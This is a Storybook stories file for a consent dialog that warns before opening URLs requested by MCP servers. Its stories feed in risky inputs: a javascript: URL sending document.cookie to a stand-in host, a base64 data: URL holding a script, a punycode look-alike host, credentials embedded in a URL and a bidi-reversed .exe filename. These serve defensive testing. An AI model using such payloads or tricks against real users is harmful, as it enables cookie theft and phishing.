import { html } from 'lit';
import type { Meta, StoryObj } from '@storybook/web-components-vite';
import { question } from './support.js';

interface Args {
  url: string;
  message: string;
  serverName: string;
  serverOrigin: string;
  repeated: boolean;
}

/**
 * `<mcp-elicitation>` in URL mode: consent before opening a page, with the whole URL as text, its
 * host emphasised, and a warning for each risk. Nothing is fetched before the click.
 */
const meta: Meta<Args> = {
  title: 'Elicitation/URL mode',
  component: 'mcp-url-elicitation',
  args: {
    url: 'https://billing.example.com/oauth/authorize?client_id=help-desk&state=1f3a',
    message: 'Sign in to Acme Billing to connect it to the help desk.',
    serverName: 'Help desk',
    serverOrigin: 'https://mcp.example.com',
    repeated: false,
  },
  argTypes: {
    url: { control: 'text' },
    message: { control: 'text' },
    serverName: { control: 'text' },
    serverOrigin: { control: 'text', description: 'The asking server’s origin, to flag links to other sites' },
    repeated: { control: 'boolean', description: 'Asked again for a URL already opened' },
  },
  render: (args) =>
    question({ mode: 'url', message: args.message, url: args.url }, { server: { name: args.serverName, origin: args.serverOrigin || undefined }, repeated: args.repeated }),
};
export default meta;

type Story = StoryObj<Args>;

export const Https: Story = {};

export const HttpOutsideLoopback: Story = { args: { url: 'http://billing.example.com/signin' } };

export const HttpOnLoopback: Story = { args: { url: 'http://127.0.0.1:8080/signin', serverOrigin: 'http://127.0.0.1:8080' } };

export const PunycodeLookAlikeHost: Story = { args: { url: 'https://xn--pple-43d.com/signin' } };

export const CredentialsInUrl: Story = { args: { url: 'https://admin:hunter2@billing.example.com/signin' } };

export const IpAddressHost: Story = { args: { url: 'https://203.0.113.7/pay' } };

export const JavascriptUrl: Story = { args: { url: 'javascript:fetch("https://evil.example/?c="+document.cookie)' } };

export const DataUrl: Story = { args: { url: 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==' } };

export const NotAUrl: Story = { args: { url: 'open the billing page please' } };

export const OtherSiteThanTheServer: Story = { args: { url: 'https://billing-example.com/signin' } };

export const BidiTrickInMessage: Story = { args: { message: 'Download your invoice \u202Efdp.exe' } };

/** A 63-character host: the URL, the host line and "Open ‹host›" wrap inside the card. */
export const VeryLongHost: Story = {
  args: { url: `https://${'a'.repeat(63)}.example.com/signin?${'x'.repeat(120)}` },
};

export const AskedAgain: Story = { args: { repeated: true } };

export const Dark: Story = {
  render: (args) => html`<div style="--mcp-elicit-color-scheme: dark; background: #121316; padding: 1rem;">
    ${question({ mode: 'url', message: args.message, url: 'http://xn--pple-43d.com/signin' }, { server: { name: args.serverName, origin: args.serverOrigin } })}
  </div>`,
};
